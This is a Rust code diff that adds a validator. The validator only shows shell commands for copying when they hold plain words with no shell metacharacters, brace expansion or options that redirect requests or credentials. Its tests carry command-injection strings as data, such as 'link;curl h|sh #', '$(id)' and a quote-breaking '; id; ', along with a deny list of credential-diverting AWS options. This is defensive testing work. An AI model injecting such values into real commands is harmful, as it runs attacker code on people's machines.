@@ -13,6 +13,42 @@ pub fn plain(text: &str) -> String {
         .collect()
 }
 
+/// How commands of ours go on that need more of a shell than words.
+const TAILS: [&str; 2] =
+    [" </dev/null | openssl x509 -noout -subject -issuer -dates -ext subjectAltName", " </dev/null"];
+
+/// Options that send a request, or the reader's credentials, somewhere else.
+const DIVERTING: [&str; 6] =
+    ["--endpoint-url", "--no-verify-ssl", "--profile", "--ca-bundle", "--cli-input", "--debug"];
+
+/// A command that an engineer copies: words and single-quoted words only. `None` for a command in which a name from outside
+/// would do more: half a command is worse than none.
+pub fn command(text: &str) -> Option<String> {
+    let text = plain(text);
+    let tail = TAILS.iter().find(|tail| text.ends_with(**tail)).copied().unwrap_or_default();
+    let words = text.strip_suffix(tail).unwrap_or(&text);
+    let mut is_quoted = false;
+    let mut bare = String::new();
+    for c in words.chars() {
+        match c {
+            '\'' => is_quoted = !is_quoted,
+            c if !is_quoted => bare.push(c),
+            _ => {}
+        }
+    }
+    // `'it'\''s'` is how a quote is written inside of quotes.
+    let bare = bare.replace("\\", if words.contains("'\\''") { "" } else { "\\" });
+    let acts = bare.contains([
+        '$', '`', ';', '&', '|', '<', '>', '(', ')', '#', '*', '?', '[', ']', '~', '!', '\\', '"',
+    ]);
+    let expands = bare
+        .split('{')
+        .skip(1)
+        .any(|rest| rest.split('}').next().is_some_and(|list| list.contains([',', '.'])));
+    let diverts = DIVERTING.iter().any(|option| bare.contains(option));
+    (!is_quoted && !acts && !expands && !diverts).then_some(text)
+}
+
 /// For an e-mail, whose readers' programs make a link of every address that they see.
 pub fn email(text: &str) -> String {
     defanged(&plain(text))
@@ -62,6 +98,11 @@ pub fn chat(text: &str) -> String {
 pub fn chat_code(text: &str) -> String {
     let text = plain(text).replace('`', "'").replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
     format!("`{text}`")
+}
+
+/// For a log line in such a span: people copy it to where its addresses would be links.
+pub fn chat_quote(text: &str) -> String {
+    chat_code(&defanged(text))
 }
 
 /// For the subject of an e-mail: SNS takes fewer than 100 characters, no line breaks, no control characters.
@@ -254,6 +295,36 @@ mod tests {
         assert_eq!(plain(&format!("a{hidden}b")), "ab");
         assert_eq!(plain("a\u{a0}b\u{2003}c\u{2800}d"), "a b c d");
         assert!(!terminal(hidden).chars().any(is_invisible));
+    }
+
+    #[test]
+    fn a_command_that_would_do_more_is_left_out() {
+        for harmless in [
+            "aws elbv2 describe-listeners --query 'Listeners[].[Protocol,Port]' --region eu-west-1",
+            "openssl s_client -connect h:443 -servername h -showcerts </dev/null",
+            "aws apigateway update-stage --patch-operations 'op=replace,path=/variables/link;curl x|sh #,value=VALUE'",
+            "curl https://h/orders/{id}",
+            "aws x --name 'it'\\''s'",
+        ] {
+            assert_eq!(command(harmless).as_deref(), Some(harmless));
+        }
+        for name in [
+            "link;curl h|sh #",
+            "$(id)",
+            "`id`",
+            "a>b",
+            "'; id; '",
+            "'",
+            "{a,b}",
+            "{1..9}",
+            "a --endpoint-url h",
+        ] {
+            assert_eq!(
+                command(&format!("aws x --patch-operations path=/variables/{name},value=V")),
+                None,
+                "{name}"
+            );
+        }
     }
 
     #[test]
